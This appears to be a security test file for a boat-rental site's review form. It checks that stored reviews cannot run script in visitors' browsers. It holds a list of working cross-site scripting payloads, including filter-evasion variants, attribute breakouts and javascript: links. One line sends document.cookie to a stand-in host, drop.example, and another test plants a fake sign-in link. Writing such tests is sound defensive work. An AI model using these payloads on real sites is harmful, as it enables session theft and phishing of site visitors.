const REVIEW = { author: 'A guest', website: '', rating: '5', text: 'Fair winds.' };
const DRAIN = "fetch('https://drop.example/?c=' + document.cookie)";

/** Sends a review the way a browser does. */
const byForm = (app) => (fields) => app.post('/boats/1', { ...REVIEW, ...fields });

/** Puts a review where it has been since before today's code. */
const fromBefore = (database) => (fields) => {
  const { author, website, text } = { ...REVIEW, ...fields };
  return database.run(
    'INSERT INTO reviews (boat_id, author, website, rating, text) VALUES (1, ?, ?, 5, ?)',
    author,
    website,
    text,
  );
};

/** Control characters as the escapes a programmer would type, so that a message can show them. */
const printable = (text) =>
  text.replace(
    /[\u0000-\u001f]/g,
    (sign) => ({ '\t': '\\t', '\n': '\\n' })[sign] ?? `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`,
  );

/** A policy without 'unsafe-inline' holds inline scripts back in today's browsers; the markup is there all the same. */
function holdsScriptsBack({ headers }) {
  const directives = (headers['content-security-policy'] ?? '').split(';').map((one) => one.trim().split(/\s+/));
  const find = (name) => directives.find(([first]) => first.toLowerCase() === name);
  const sources = find('script-src') ?? find('default-src');
  return sources !== undefined && !sources.includes("'unsafe-inline'");
}

/**
 * Stores one review for each attack and opens the page as the next visitor would. An attack is a function from the
 * script it wants to run to the fields of a review. Each has a word of its own, so that what ran can be told apart.
 */
async function attack({ app, browser, expect, leaked, random }, send, attacks, where) {
  const tries = attacks.map((make) => {
    const word = random.word(10);
    return { word, fields: make(`alert('${word}')`) };
  });
  // The first one alone, so that its transcript can be read; the others together.
  for (const group of [tries.slice(0, 1), tries.slice(1)]) {
    for (const { fields } of group) await send(fields);
    const response = await app.get('/boats/1');
    const page = await browser.open(response, { url: 'https://tidewater.example/boats/1' });
    if (holdsScriptsBack(response)) continue;
    for (const { word, fields } of group) {
      const ran = page.ran.find((script) => script.code.includes(word));
      if (!ran) continue;
      const payload = printable(Object.values(fields).join(' '));
      for (const value of Object.values(fields)) leaked(value);
      expect(ran.how, 'the script of a guest').is(
        undefined,
        `${where} “${payload}” runs in the browser of everyone who opens the page.`,
      );
    }
  }
}

/** A stranger's link in the words of the site needs no script to ask for a password. */
async function bait({ app, browser, expect, leaked, random }) {
  const address = `https://drop.example/${random.word(8)}`;
  await byForm(app)({ text: `<a href="${address}">Your session has ended. Sign in again</a>` });
  const links = (await browser.open(await app.get('/boats/1'))).elements('a');
  if (!links.some((link) => link.attributes.href === address)) return;
  leaked(address);
  expect(address, 'the link of a guest').is(
    '',
    `A review can hold a link of its own to “${address}”, in the words of the site: its text is still read as HTML.`,
  );
}

check('text-runs', 'The text of a review is shown, and nothing of it is run', async (hands) => {
  await attack(
    hands,
    byForm(hands.app),
    [
      (code) => ({ text: `Nice boat<script>${code}; ${DRAIN}</script>` }),
      (code) => ({ text: `<img src=x onerror="${code}">` }),
      (code) => ({ text: `<ScRiPt >${code}</sCrIpT >` }),
      (code) => ({ text: `<scr<script>ipt>${code}</scr</script>ipt>` }),
      (code) => ({ text: `<svg/onload=${code}>` }),
      (code) => ({ text: `<img src=x onerror\n=\n"${code}">` }),
      (code) => ({ text: `<details open ontoggle = ${code}>` }),
      (code) => ({ text: `<a href="javascript:${code}">the log</a>` }),
      (code) => ({ text: `<img src=x oonerror=nerror=${code}>` }),
      (code) => ({ text: `"5" < '6' & <so> on: <img src=x onerror="${code}">` }),
      (code) => ({ text: `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>` }),
    ],
    'A review with the text',
  );
  await bait(hands);
});

check('name-runs', 'The name of a guest runs nothing', async (hands) => {
  await attack(
    hands,
    byForm(hands.app),
    [
      (code) => ({ author: `<img src=x onerror="${code}">` }),
      (code) => ({ author: `Jo<script>${code}</script>` }),
      (code) => ({ author: `<svg onload=${code}>`, website: 'https://a.example/' }),
      (code) => ({ author: `<IMG SRC=x OnError\n= "${code}">`, website: 'https://b.example/' }),
    ],
    'A review by the name of',
  );
});

check('attribute-runs', 'No quote leads out of an attribute', async (hands) => {
  await attack(
    hands,
    byForm(hands.app),
    [
      (code) => ({ author: `Jo" onmouseover="${code}//` }),
      (code) => ({ author: `Jo' onmouseover='${code}//` }),
      (code) => ({ author: `Jo" autofocus tabindex=1 onfocus\n="${code}//` }),
      (code) => ({ author: `"Jo" & 'Co' onmouseover=${code}//` }),
      (code) => ({ website: `https://a.example/" onclick="${code}` }),
      (code) => ({ website: `https://a.example/' onclick='${code}` }),
      (code) => ({ website: `https://a.example/"onmouseover=${code} x="` }),
      (code) => ({ website: `https://a.example/"><img src=x onerror="${code}` }),
    ],
    'A review whose name or website is',
  );
});

check('link-runs', 'A link to a website leads to a website', async (hands) => {
  const { app, browser, expect, leaked } = hands;
  const websites = [
    (code) => ({ website: `javascript:${code}` }),
    (code) => ({ website: `JaVaScRiPt:${code}` }),
    (code) => ({ website: `\u0001 javascript:${code}` }),
    (code) => ({ website: `java\tscr\nipt:${code}` }),
    (code) => ({ website: `javascript://a.example/%0A${code}` }),
    (code) => ({ website: `javascript:${code}//https://a.example/` }),
    (code) => ({ website: `javascript:${code};'http://'` }),
    (code) => ({ website: `javascript&colon;${code}` }),
  ];
  await attack(hands, byForm(app), websites, 'A click on a name whose website is');
  const response = await app.get('/boats/1');
  if (holdsScriptsBack(response)) return;
  const links = (await browser.open(response)).elements('a');
  for (const { attributes } of links) {
    const address = (attributes.href ?? '').replace(/[\u0000-\u0020]/g, '').toLowerCase();
    if (!address.startsWith('javascript:')) continue;
    leaked(attributes.href);
    expect(address, 'the address of a link').is(
      '',
      `A link leads to “${printable(attributes.href)}”: a click runs it as a script.`,
    );
  }
});

check('old-reviews-run', 'Reviews that were stored long ago run nothing', async (hands) => {
  await attack(
    hands,
    fromBefore(hands.database),
    [
      (code) => ({ text: `Great week<script>${code}; ${DRAIN}</script>` }),
      (code) => ({ author: `<img src=x onerror="${code}">` }),
      (code) => ({ author: `Kees" onmouseover="${code}//` }),
      (code) => ({ website: `javascript:${code}` }),
    ],
    'A review that has been in the database since last year, with',
  );
});
